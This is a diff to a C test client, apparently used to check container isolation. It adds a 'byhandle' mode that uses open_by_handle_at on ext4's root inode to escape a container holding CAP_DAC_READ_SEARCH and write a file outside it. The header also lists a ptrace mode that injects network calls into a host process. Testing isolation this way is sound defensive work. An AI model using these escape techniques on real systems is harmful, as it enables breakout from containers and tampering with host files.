@@ -14,11 +14,17 @@
  *                                      injecting socket() and connect() through ptrace: the
  *                                      attack of a container that can trace a host process
  *                                      (x86_64 only; prints "ok", or STEP ERRNO)
+ *   ctclient byhandle DIR PATH         open the root of the filesystem DIR is on by a handle
+ *                                      (open_by_handle_at through DIR's mount, ext4's root
+ *                                      inode) and write "escaped" to PATH relative to it: the
+ *                                      attack of a container holding CAP_DAC_READ_SEARCH
+ *                                      (prints "ok", or STEP ERRNO)
  *
  * ADDR is numeric (IPv4 or IPv6). Exit status: 0 "ok", 1 an errno, 2 usage error.
  */
 #include <arpa/inet.h>
 #include <errno.h>
+#include <fcntl.h>
 #include <netinet/in.h>
 #include <poll.h>
 #include <signal.h>
@@ -110,6 +116,12 @@ static int listen_loop(const char *kind, const struct sockaddr_storage *ss, sock
 	return 0;
 }
 
+static int step_failed(const char *step, int err)
+{
+	printf("%s %s\n", step, errname(err));
+	return 1;
+}
+
 #ifdef __x86_64__
 /* Runs one system call in the stopped tracee, at the syscall instruction just before rip. */
 static long inject(pid_t pid, const struct user_regs_struct *saved, long nr, long a1, long a2,
@@ -128,12 +140,6 @@ static long inject(pid_t pid, const struct user_regs_struct *saved, long nr, lon
 	    waitpid(pid, &st, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
 		return -errno;
 	return (long)r.rax;
-}
-
-static int step_failed(const char *step, int err)
-{
-	printf("%s %s\n", step, errname(err));
-	return 1;
 }
 
 static int ptrace_connect(pid_t pid, const struct sockaddr_in *sin)
@@ -179,12 +185,45 @@ static int ptrace_connect(pid_t pid, const struct sockaddr_in *sin)
 }
 #endif
 
+/* ext4's root directory is inode 2; a generation of 0 is not checked (FILEID_INO32_GEN). */
+#define EXT4_ROOT_INO	 2
+#define FILEID_INO32_GEN 1
+
+static int byhandle_write(const char *dir, const char *path)
+{
+	union {
+		struct file_handle fh;
+		char room[sizeof(struct file_handle) + 2 * sizeof(unsigned int)];
+	} h;
+	unsigned int ino_gen[2] = { EXT4_ROOT_INO, 0 };
+	int mnt, root, fd;
+
+	h.fh.handle_bytes = sizeof(ino_gen);
+	h.fh.handle_type = FILEID_INO32_GEN;
+	memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
+	mnt = open(dir, O_RDONLY | O_DIRECTORY);
+	if (mnt < 0)
+		return step_failed("open", errno);
+	root = open_by_handle_at(mnt, &h.fh, O_RDONLY | O_DIRECTORY);
+	if (root < 0)
+		return step_failed("open_by_handle_at", errno);
+	fd = openat(root, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+	if (fd < 0)
+		return step_failed("openat", errno);
+	if (write(fd, "escaped\n", 8) != 8)
+		return step_failed("write", errno);
+	close(fd);
+	puts("ok");
+	return 0;
+}
+
 static int usage(void)
 {
 	fputs("usage: ctclient tcp|udp|udpc ADDR PORT\n"
 	      "       ctclient listen tcp|udp ADDR PORT [SECONDS]\n"
 	      "       ctclient sleep SECONDS\n"
-	      "       ctclient ptrace PID ADDR PORT\n",
+	      "       ctclient ptrace PID ADDR PORT\n"
+	      "       ctclient byhandle DIR PATH\n",
 	      stderr);
 	return 2;
 }
@@ -213,6 +252,8 @@ int main(int argc, char **argv)
 			return usage();
 		return listen_loop(argv[2], &ss, len, argv[3], argv[4], seconds);
 	}
+	if (argc == 4 && strcmp(argv[1], "byhandle") == 0)
+		return byhandle_write(argv[2], argv[3]);
 	if (argc == 5 && strcmp(argv[1], "ptrace") == 0) {
 		len = parse_addr(argv[3], argv[4], &ss);
 		if (len != sizeof(struct sockaddr_in))
